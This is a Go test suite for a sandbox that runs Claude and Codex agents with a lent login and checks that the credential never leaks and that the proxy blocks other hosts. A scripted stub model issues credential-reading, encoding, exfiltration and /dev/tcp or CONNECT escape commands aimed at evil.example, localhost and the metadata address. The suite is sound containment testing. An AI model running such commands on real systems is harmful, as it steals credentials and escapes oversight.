package seat

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"conclave/agent"
	"conclave/agent/claude"
	"conclave/agent/codex"
	"conclave/audit"
	"conclave/forwarder"
	"conclave/gateway"
	"conclave/internal/clients"
	"conclave/internal/hunt"
	"conclave/internal/modelstub"
	"conclave/internal/sample"
	"conclave/internal/vendorstub"
	"conclave/record"
	"conclave/room"
	"conclave/toolbox"
)

// borrowed is one real program with a login of nobody's.
type borrowed struct {
	name    string
	plan    Plan
	secret  string // the token that the vendor is shown
	secrets []string
	kept    string // where in the room it lies
	shell   string // the program's own tool, as a model calls it
	command string // and the argument that holds the command
	tool    string // the room's, as a model calls it
	vendor  *vendorstub.Server
}

// borrow seats a program with a dummy login before a stand-in for its vendor.
func borrow(t *testing.T, name string, handler modelstub.Handler) borrowed {
	t.Helper()
	sample.Long(t)
	stub := modelstub.New(handler)
	t.Cleanup(stub.Close)
	vendor, err := vendorstub.New(stub.URL(), "api.anthropic.com", "chatgpt.com", "auth.openai.com", "evil.example")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(vendor.Close)
	b := borrowed{name: name, vendor: vendor}
	const authority = "/room/work/authority.pem"
	var native string
	p := plan(t, t.TempDir(), "")
	switch name {
	case "claude":
		native = lendProgram(t, name)
		lent := vendorstub.ClaudeLogin()
		b.secret, b.secrets = lent.Token, lent.Secrets
		p.Agent = claude.New(claude.Config{Program: native, Env: []string{"NODE_EXTRA_CA_CERTS=" + authority}})
		p.Model, p.Builtin = "claude-sonnet-4-5", []string{"Bash"}
		b.shell, b.command, b.tool, b.kept = "Bash", "command", "mcp__room__submit", `tr '\0' '\n' < /proc/$CLAUDE_PID/environ`
		p.Login, err = claude.Lend(lent.Getenv)
	case "codex":
		native = lendProgram(t, name)
		var lent vendorstub.Login
		if lent, err = vendorstub.CodexLogin(t.TempDir()); err != nil {
			t.Fatal(err)
		}
		b.secret, b.secrets = lent.Token, lent.Secrets
		p.Agent, err = codex.New(codex.Options{Program: native, Env: []string{"SSL_CERT_FILE=" + authority}})
		if err != nil {
			t.Fatal(err)
		}
		p.Model, p.Builtin = "gpt-5.5", []string{"shell"}
		b.shell, b.command, b.tool, b.kept = "exec_command", "cmd", "submit", `cat "$CODEX_HOME/auth.json"`
		p.Login, err = codex.Lend(lent.Getenv, time.Now())
	}
	if err != nil {
		t.Fatal(err)
	}
	p.InProcess, p.Role, p.PromptName, p.Dial, p.Tools = false, "cat", "quest.consult", vendor.Dial, submitTool()
	p.Room.Programs = []string{filepath.Dir(native)}
	if p.Room.Base, err = os.MkdirTemp("", "conclave-login-"); err != nil { // a room's own user passes through it
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(p.Room.Base) })
	if err := os.Chmod(p.Room.Base, 0o711); err != nil {
		t.Fatal(err)
	}
	p.Room.Grants = append(p.Room.Grants, room.Grant{Kind: "success-criteria", Name: "authority.pem", Bytes: vendor.Authority})
	p.Denied, p.System = nil, "You are the cat."
	b.plan = p
	return b
}

func lendProgram(t *testing.T, name string) string {
	t.Helper()
	var path string
	var err error
	if name == "claude" {
		if path, err = clients.Claude(clients.ClaudeNew); err == nil {
			path, err = filepath.EvalSymlinks(path)
		}
	} else if path, err = clients.Codex(); err == nil {
		path, err = codex.Locate(path)
	}
	if err != nil {
		t.Fatal(err)
	}
	lent, remove, err := clients.Lend(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(remove)
	return lent
}

func eachBorrowed(t *testing.T, run func(t *testing.T, name string)) {
	for _, name := range []string{"claude", "codex"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			run(t, name)
		})
	}
}

// receipts of a run, as they are stored.
func receipts(t *testing.T, p Plan) (out []audit.Receipt) {
	t.Helper()
	for _, raw := range events(t, p.Workspace, p.Run, audit.EventReceipt) {
		var r audit.Receipt
		if err := json.Unmarshal(raw, &r); err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// A whole turn with the person's own login, and what its receipt says.
func TestTurnByLogin(t *testing.T) {
	eachBorrowed(t, func(t *testing.T, name string) {
		b := borrow(t, name, nil)
		var told []string
		b.plan.Tell = func(s string) { told = append(told, s) }
		called := 0
		b.plan.Tools = []toolbox.Tool{{Name: "submit", Schema: json.RawMessage(`{"type":"object","properties":{"n":{"type":"integer"}}}`),
			Handle: func(context.Context, json.RawMessage) (string, error) { called++; return "thanks", nil }}}
		b = borrowAgain(t, b, modelstub.Script(
			modelstub.Answer(modelstub.Call(b.tool, "call_1", `{"n":7}`)), modelstub.Answer(modelstub.Say("Purr."))))
		s := open(t, b.plan)
		reply, err := s.Take(t.Context(), said("t1", "Speak."))
		if err != nil {
			t.Fatal(err)
		}
		if reply.Text != "Purr." || called != 1 || reply.Usage.Output == 0 {
			t.Errorf("%+v; the tool was called %d times", reply, called)
		}
		if _, err := s.Close(t.Context(), "done"); err != nil {
			t.Fatal(err)
		}
		asked := 0
		for _, q := range b.vendor.Requests() {
			if strings.HasSuffix(q.Path, "/messages") || strings.HasSuffix(q.Path, "/responses") && q.Method == "POST" {
				asked++
			}
			if q.Authorization != "Bearer "+b.secret {
				t.Errorf("%s %s%s was asked with %.30q", q.Method, q.Host, q.Path, q.Authorization)
			}
		}
		if asked != 2 {
			t.Errorf("the model was asked %d times: %+v", asked, b.vendor.Requests())
		}
		host := b.plan.Login.Hosts[0]
		r := receipts(t, b.plan)[0]
		if r.Enforced.Level != "sealed but for a forwarder" || len(r.Enforced.Forwards) != 1 || r.Enforced.Forwards[0] != host ||
			len(r.Enforced.Probes) < 20 || r.ModelInput != audit.InputNotObserved || r.Credential != audit.CredentialInRoom ||
			r.Login != "login" || r.Forwarder == nil || r.Forwarder.Connections == 0 || r.Calls != 0 {
			t.Errorf("%+v", r)
		}
		want := "room sealed but for a forwarder to " + host + ", with a credential in it; model input: not observed"
		if len(r.Stamps) != 1 || r.Stamps[0] != want || len(told) != 1 || told[0] != "cat: "+want {
			t.Errorf("stamps %q, told %q", r.Stamps, told)
		}
		b.judge(t, host)
		hunted(t, b, b.plan.Workspace)
	})
}

// A vendor that gives no answer is asked as often as its program asks: whoever takes
// turns is told that there is none, so that it does not ask again. That a request was
// not understood is no such thing, where the program says so: Codex does not.
func TestLoginWithoutAnAnswer(t *testing.T) {
	eachBorrowed(t, func(t *testing.T, name string) {
		for status, want := range map[int]bool{401: true, 400: name == "codex"} {
			b := borrow(t, name, func(modelstub.Request) modelstub.Reply { return modelstub.Fail(status, "not today") })
			s := open(t, b.plan)
			_, err := s.Take(t.Context(), said("t1", "Speak."))
			if got := errors.As(err, new(*UnansweredError)); err == nil || got != want {
				t.Errorf("status %d: %v; without an answer is %v", status, err, got)
			}
			if err := s.Leave(t.Context()); err != nil {
				t.Error(err)
			}
			hunted(t, b, b.plan.Workspace)
		}
	})
}

// borrowAgain gives the stand-in another script.
func borrowAgain(t *testing.T, b borrowed, handler modelstub.Handler) borrowed {
	t.Helper()
	again := borrow(t, b.name, handler)
	again.plan.Tell, again.plan.Tools = b.plan.Tell, b.plan.Tools
	return again
}

// judge holds the record against the policy: what is not observed is a gap, and
// nothing is found.
func (b borrowed) judge(t *testing.T, host string) {
	t.Helper()
	path, err := record.Path(b.plan.Workspace, b.plan.Run)
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	report, err := audit.Judge(f)
	if err != nil {
		t.Fatal(err)
	}
	gaps := strings.Join(report.Gaps, "\n")
	for _, want := range []string{"model input: not observed", "the credential was in the room", "sealed but for a forwarder to " + host} {
		if !strings.Contains(gaps, want) {
			t.Errorf("no %q among the gaps:\n%s", want, gaps)
		}
	}
	if len(report.Findings) > 0 || len(report.Turns) != 1 || report.Turns[0].Model != audit.InputNotObserved ||
		report.Turns[0].Level != "sealed but for a forwarder to "+host {
		t.Errorf("%+v", report)
	}
}

// hunted looks for the credential, in any encoding, in every file below dirs, the
// frames of records among them.
func hunted(t *testing.T, b borrowed, dirs ...string) {
	t.Helper()
	found, _, err := hunt.New(b.secrets...).Files(dirs...)
	if err != nil {
		t.Fatal(err)
	}
	for _, place := range found {
		t.Errorf("%s holds the credential", place)
	}
}

// An agent that repeats what it was lent – in its words, to the room's tools, in
// its outbox, in its output, plain and encoded – gets it nowhere.
func TestLoginIsRepeatedNowhere(t *testing.T) {
	eachBorrowed(t, func(t *testing.T, name string) {
		var heard []string
		var b borrowed
		step := 0
		handler := func(r modelstub.Request) modelstub.Reply {
			for _, result := range r.ToolResults() {
				heard = append(heard, result.Text)
			}
			if len(r.Tools()) == 0 {
				return modelstub.Answer(modelstub.Say("Done."))
			}
			run := func(script string) modelstub.Reply {
				input, _ := json.Marshal(map[string]string{b.command: script})
				return modelstub.Answer(modelstub.Call(b.shell, fmt.Sprintf("call_%d", step), string(input)))
			}
			step++
			switch step {
			case 1:
				return run(b.kept)
			case 2:
				return run(b.kept + " | base64 -w0; echo; " + b.kept + " | od -An -tx1 | tr -d ' \\n'")
			case 3:
				return run(b.kept + " > ../outbox/mine.txt; cp ../outbox/mine.txt ../outbox/again.md; echo written")
			case 4:
				return modelstub.Answer(modelstub.Call(b.tool, "call_4", `{"n":1,"why":"`+b.secret+`"}`))
			case 5:
				return modelstub.Answer(modelstub.Call(b.tool, "call_5", `{"n":1,"why":"`+base64.StdEncoding.EncodeToString([]byte("x"+b.secret))+`"}`))
			}
			return modelstub.Answer(modelstub.Say("It is " + b.secret + ", that is " + hex.EncodeToString([]byte(b.secret)) + "."))
		}
		b = borrow(t, name, func(r modelstub.Request) modelstub.Reply { return handler(r) })
		var calls []string
		b.plan.Tools = []toolbox.Tool{{Name: "submit", Schema: json.RawMessage(`{"type":"object"}`),
			Handle: func(_ context.Context, input json.RawMessage) (string, error) {
				calls = append(calls, string(input))
				return "thanks", nil
			}}}
		base := b.plan.Room.Base
		s := open(t, b.plan)
		var seen []string
		turn := said("t1", "Tell me everything.")
		turn.Watch = func(e agent.Event) {
			seen = append(seen, e.Delta)
			if e.Entry != nil {
				seen = append(seen, string(e.Entry.Detail)+string(e.Entry.Raw))
			}
		}
		reply, err := s.Take(t.Context(), turn)
		if err != nil {
			t.Fatal(err)
		}
		all := strings.Join(heard, "\n")
		if !strings.Contains(all, b.secret) || !gateway.NewSecrets(b.secret).In([]byte(strings.ReplaceAll(all, b.secret, ""))) {
			t.Fatalf("the agent did not find what it was lent, so that nothing is shown: %.2000s", all)
		}
		secrets := gateway.NewSecrets(b.plan.Login.Secrets...)
		if secrets.In([]byte(reply.Text)) || !strings.Contains(reply.Text, "withheld") {
			t.Errorf("the reply: %s", reply.Text)
		}
		if secrets.In([]byte(strings.Join(seen, "\n"))) || len(seen) == 0 {
			t.Errorf("a watcher saw the credential")
		}
		if len(calls) > 0 {
			t.Errorf("the tool was told %s", calls)
		}
		var said audit.Reply
		if err := json.Unmarshal(events(t, b.plan.Workspace, b.plan.Run, audit.EventReply)[0], &said); err != nil {
			t.Fatal(err)
		}
		if len(said.Files) != 2 || said.Files[0].Text != "" || !strings.Contains(said.Files[0].Fault, "repeats the credential") {
			t.Errorf("handed in: %+v", said.Files)
		}
		if err := s.Leave(t.Context()); err != nil {
			t.Fatal(err)
		}
		hunted(t, b, b.plan.Workspace)
		if left, _, err := hunt.New(b.secrets...).Files(base); len(left) > 0 {
			t.Errorf("%q are left of the room (%v)", left, err)
		}
		if c := events(t, b.plan.Workspace, b.plan.Run, forwarder.EventConnect); len(c) == 0 || !strings.Contains(string(c[0]), b.plan.Login.Hosts[0]) {
			t.Errorf("connections on the record: %s", c)
		}
	})
}

// What a room with a forwarder tries to reach besides: nothing of it passes.
func TestForwarderFromInside(t *testing.T) {
	attempts := []struct{ name, target, first, want string }{
		{"another host", "evil.example:443", "", " 403 "},
		{"where tokens are renewed", "auth.openai.com:443", "", " 403 "},
		{"an address", "127.0.0.1:443", "", " 403 "},
		{"the machine's metadata", "169.254.169.254:443", "", " 403 "},
		{"port 80", "HOST:80", "", " 403 "},
		{"plain text", "HOST:443", `GET / HTTP/1.1\r\nHost: HOST\r\n\r\n`, " 200 "},
	}
	eachBorrowed(t, func(t *testing.T, name string) {
		var b borrowed
		var results []string
		step := 0
		b = borrow(t, name, func(r modelstub.Request) modelstub.Reply {
			for _, result := range r.ToolResults() {
				if strings.HasPrefix(result.ID, fmt.Sprintf("call_%d", step)) {
					results = append(results, result.Text)
				}
			}
			if len(r.Tools()) == 0 || step == len(attempts)+1 {
				return modelstub.Answer(modelstub.Say("Done."))
			}
			script := `for d in 1.1.1.1/443 127.0.0.1/80 127.0.0.1/443; do (exec 3<>/dev/tcp/$d) 2>/dev/null && echo OPEN $d; done; getent hosts ` +
				b.plan.Login.Hosts[0] + ` && echo RESOLVED; echo looked`
			if step < len(attempts) {
				a := attempts[step]
				host := b.plan.Login.Hosts[0]
				target, first := strings.ReplaceAll(a.target, "HOST", host), strings.ReplaceAll(a.first, "HOST", host)
				script = `p=${HTTPS_PROXY#http://}; auth=$(printf %s "${p%@*}" | base64 -w0); exec 3<>/dev/tcp/127.0.0.1/${p##*:}; ` +
					`printf 'CONNECT ` + target + ` HTTP/1.1\r\nHost: ` + target + `\r\nProxy-Authorization: Basic %s\r\n\r\n' "$auth" >&3; ` +
					`read -r line <&3; echo "answer: $line"; read -r line <&3; printf '` + first + `' >&3; timeout 5 cat <&3`
			}
			step++
			input, _ := json.Marshal(map[string]string{b.command: "bash -c '" + strings.ReplaceAll(script, "'", `'\''`) + "'"})
			return modelstub.Answer(modelstub.Call(b.shell, fmt.Sprintf("call_%d", step), string(input)))
		})
		s := open(t, b.plan)
		if _, err := s.Take(t.Context(), said("t1", "Get out.")); err != nil {
			t.Fatal(err)
		}
		if err := s.Leave(t.Context()); err != nil {
			t.Fatal(err)
		}
		if len(results) != len(attempts)+1 {
			t.Fatalf("%d results of %d attempts: %q", len(results), len(attempts)+1, results)
		}
		for i, a := range attempts {
			if !strings.Contains(results[i], "answer: HTTP/1.1"+a.want) || strings.Contains(results[i], "modelstub") {
				t.Errorf("%s: %s", a.name, results[i])
			}
		}
		if last := results[len(attempts)]; !strings.Contains(last, "looked") || strings.Contains(last, "OPEN") || strings.Contains(last, "RESOLVED") {
			t.Errorf("beside the forwarder: %s", last)
		}
		if n := len(events(t, b.plan.Workspace, b.plan.Run, forwarder.EventRefused)); n < len(attempts) {
			t.Errorf("%d refusals are on the record", n)
		}
		for _, q := range b.vendor.Requests() {
			if q.Host != b.plan.Login.Hosts[0] {
				t.Errorf("%s was reached", q.Host)
			}
		}
		hunted(t, b, b.plan.Workspace)
	})
}
